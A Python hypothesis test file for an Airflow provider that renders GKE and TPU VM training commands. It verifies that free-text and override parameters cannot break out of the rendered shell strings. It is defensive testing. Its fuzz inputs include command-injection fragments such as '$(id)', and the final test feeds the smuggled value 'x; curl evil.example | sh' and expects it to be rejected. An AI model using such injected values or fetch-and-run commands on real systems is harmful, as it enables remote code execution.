"""Property: a free-text param is either rejected, or it comes out of ``shlex.split`` of every
rendered shell string as the same single token: no value can break out of the command."""

from __future__ import annotations

import shlex
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from airflow_provider_tpu_rl.render import gke, tpu_vm
from airflow_provider_tpu_rl.render.plan import gke_plan, tpu_vm_plan
from airflow_provider_tpu_rl.spec import SpecError, gke_pipeline_from_conf, tpu_vm_pipeline_from_conf

# Shell-significant characters weighted in, so hypothesis tries the dangerous ones often.
NASTY = st.sampled_from(
    [*list(" ;&|$`'\"\\()<>{}*?!#~=\n\t-/.,:"), "$(id)", "`id`", "';", '";', " && ", "||"]
)
TEXT = st.lists(st.one_of(NASTY, st.text(max_size=4)), max_size=8).map("".join)

GKE_FREE_TEXT = [
    "project",
    "region",
    "zone",
    "cluster_name",
    "bucket",
    "reservation",
    "image",
    "hf_model_path",
    "run_name",
    "hf_token_secret",
    "hf_token_conn_id",
]
VM_FREE_TEXT = [
    "project",
    "zone",
    "vm_name",
    "bucket",
    "reservation",
    "run_name",
    "hf_token_secret",
    "workload_image",
]
SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _shell_strings_gke(conf: dict[str, Any]) -> list[str] | None:
    try:
        pipeline = gke_pipeline_from_conf(conf)
    except SpecError:
        return None
    gke_plan(pipeline)  # every command renders
    return [
        c.argv[-4].removeprefix("--command=")
        for c in (
            gke.conversion_job(
                pipeline.job_target, pipeline.convert_job, pipeline.conversion, pipeline.token_resource
            ),
            gke.training_job(
                pipeline.job_target,
                pipeline.train_job,
                pipeline.preset,
                pipeline.training,
                pipeline.token_resource,
                pipeline.pathways_gcs_location,
            ),
            gke.export_job(
                pipeline.job_target, pipeline.export_job, pipeline.export, pipeline.token_resource
            ),
        )
    ]


def _tokens(shell: str) -> list[str]:
    return [t for line in shell.splitlines() for t in shlex.split(line)]


def _occurs_as_token(value: str, tokens: list[str]) -> bool:
    return any(
        t == value or t.endswith("=" + value) or t.endswith("=" + value + "/") or value in t.split("/")
        for t in tokens
    )


@SETTINGS
@given(field=st.sampled_from(GKE_FREE_TEXT), value=TEXT)
def test_gke_free_text_is_rejected_or_one_token(field: str, value: str) -> None:
    shells = _shell_strings_gke({field: value})
    if shells is None:
        return
    for shell in shells:
        tokens = shlex.split(shell)
        assert "\n" not in shell
        if value and field in {"hf_model_path", "run_name"} and f"{field}=" in shell:
            assert _occurs_as_token(value, tokens), (field, value, tokens)


@SETTINGS
@given(key=st.from_regex(r"[a-z_][a-z0-9_.]{0,12}", fullmatch=True), value=TEXT)
def test_gke_override_values_are_one_token(key: str, value: str) -> None:
    shells = _shell_strings_gke({"train_overrides": {key: value}})
    if shells is None:
        return
    train = shells[1]
    tokens = shlex.split(train)
    assert f"{key}={value}" in tokens
    # Nothing after the module call other than key=value arguments: no injected command.
    start = tokens.index("maxtext.trainers.post_train.rl.train_rl") + 1
    assert all("=" in t for t in tokens[start:])


@SETTINGS
@given(key=st.from_regex(r"[a-z_][a-z0-9_.]{0,12}", fullmatch=True), value=TEXT)
def test_tpu_vm_override_values_are_one_token_in_the_ssh_script(key: str, value: str) -> None:
    try:
        pipeline = tpu_vm_pipeline_from_conf({"train_overrides": {key: value}, "runtime": "install"})
    except SpecError:
        return
    tpu_vm_plan(pipeline)
    for script in (tpu_vm.train_script(pipeline), tpu_vm.container_train_script(pipeline)):
        lines = [shlex.split(line) for line in script.splitlines() if line.strip()]
        module = ["python3", "-m", "maxtext.trainers.post_train.rl.train_rl"]
        (call,) = [t[t.index("python3") :] for t in lines if "python3" in t and module[2] in t]
        assert call[:3] == module
        assert f"{key}={value}" in call
        assert all("=" in t for t in call[3:])


@SETTINGS
@given(field=st.sampled_from(VM_FREE_TEXT), value=TEXT)
def test_tpu_vm_free_text_is_rejected_or_one_token(field: str, value: str) -> None:
    try:
        pipeline = tpu_vm_pipeline_from_conf({field: value})
    except SpecError:
        return
    for step in tpu_vm_plan(pipeline):
        script = step.command.stdin_text
        if script is None:
            continue
        for line in script.splitlines():
            tokens = shlex.split(line)  # never unbalanced quotes
            if value and field == "run_name" and any("run_name=" in t for t in tokens):
                assert f"run_name={value}" in tokens


def test_a_classic_injection_attempt_is_rejected() -> None:
    for field in GKE_FREE_TEXT:
        assert _shell_strings_gke({field: "x; curl evil.example | sh"}) is None, field
